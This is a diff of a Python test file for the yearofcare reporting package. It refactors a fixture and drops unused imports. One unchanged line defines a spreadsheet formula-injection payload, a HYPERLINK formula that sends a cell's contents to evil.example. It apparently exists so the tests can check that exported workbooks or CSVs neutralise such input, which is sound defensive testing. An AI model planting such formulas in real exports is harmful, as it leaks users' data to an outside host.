@@ -12,7 +12,6 @@ import pytest
 
 from tests import analysis_data
 from yearofcare import cli
-from yearofcare.engine import connect
 from yearofcare.population.analysis import AnalysisOptions, run_analyses
 from yearofcare.reports import Section, Sheet, all_sections
 from yearofcare.reports import blocks as rb
@@ -20,7 +19,6 @@ from yearofcare.reports.page import Page, render_block, write_page
 from yearofcare.reports.provenance import versions
 from yearofcare.reports.render import Reader, render_section, what, write_report
 from yearofcare.reports.workbook import workbook_bytes, write_csv, write_workbook
-from yearofcare.store import Store
 
 ATTACK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
 
@@ -131,11 +129,7 @@ def test_render_block_is_plain_text():
 
 @pytest.fixture(scope="module")
 def analysed_only(tmp_path_factory):
-    store = Store(connect("duckdb", tmp_path_factory.mktemp("only")))
-    py = analysis_data.person_year(600)
-    with store.stage("build", {"unit_costs": "nhse_ncc_2023_24"}) as run:
-        run.write("person_year", py)
-        run.write("activity", analysis_data.activity(py))
+    store = analysis_data.fabricated_store(tmp_path_factory.mktemp("only"), 600)
     run_analyses(store, AnalysisOptions.build())
     return store
 
